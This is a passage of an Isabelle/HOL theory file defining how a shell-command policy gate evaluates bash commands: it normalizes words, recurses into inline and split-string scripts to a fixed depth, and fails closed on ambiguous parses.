        InlineLiteral i \<Rightarrow> (case rec of Some f \<Rightarrow> f (inner ! i) | None \<Rightarrow> Some GAskFailClosed)
      | NotInline \<Rightarrow> None
      | _ \<Rightarrow> Some GAskFailClosed)"

definition split_string_gate ::
    "(string \<Rightarrow> gate_decision option) option \<Rightarrow> string list \<Rightarrow> gate_decision option" where
  "split_string_gate rec inner =
     (case env_split_string_script inner of
        None \<Rightarrow> None
      | Some script \<Rightarrow> (case rec of Some f \<Rightarrow> f script | None \<Rightarrow> Some GAskFailClosed))"

definition evaluate_command_words ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string list
      \<Rightarrow> gate_decision option" where
  "evaluate_command_words H pol rec raw =
     (let norm = normalize_command_words raw;
          inner = wp_words norm;
          forms = raw # (if length inner \<noteq> length raw then [inner] else []);
          d1 = fail_closed_if (wp_exhausted norm \<or> np_ambiguous norm \<or> wp_env_options_uncertain norm);
          d2 = combine_gate_decisions d1 (fail_closed_if (wp_has_split_string norm));
          d3 = foldl (\<lambda>d ws. combine_gate_decisions d (escalate_segment H pol ws)) d2 forms;
          d4 = combine_gate_decisions d3 (inline_gate rec inner)
      in combine_gate_decisions d4 (split_string_gate rec inner))"

definition command_segments_with ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> (string \<Rightarrow> gate_decision option) option \<Rightarrow> string
      \<Rightarrow> gate_decision option" where
  "command_segments_with H pol rec cmd =
     (case all_commands_from_script (parse_shell H) cmd of
        None \<Rightarrow> Some GAskFailClosed
      | Some segments \<Rightarrow>
          foldl (\<lambda>d c. combine_gate_decisions d (evaluate_command_words H pol rec (pc_words c)))
            None segments)"

primrec evaluate_bash_command_segments ::
    "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> nat \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_segments H pol 0 = command_segments_with H pol None"
| "evaluate_bash_command_segments H pol (Suc n) =
     command_segments_with H pol (Some (evaluate_bash_command_segments H pol n))"

definition evaluate_bash_command_gate :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> string \<Rightarrow> gate_decision option" where
  "evaluate_bash_command_gate H pol cmd =
     (if \<not> cp_has_bash_command_restrictions pol then None
      else evaluate_bash_command_segments H pol MAX_INLINE_SHELL_DEPTH cmd)"

definition evaluate_bash_command_policy :: "'g host \<Rightarrow> 'g compiled_policy \<Rightarrow> string \<Rightarrow> decision option" where
  "evaluate_bash_command_policy H pol cmd =
     map_option into_decision (evaluate_bash_command_gate H pol cmd)"

end
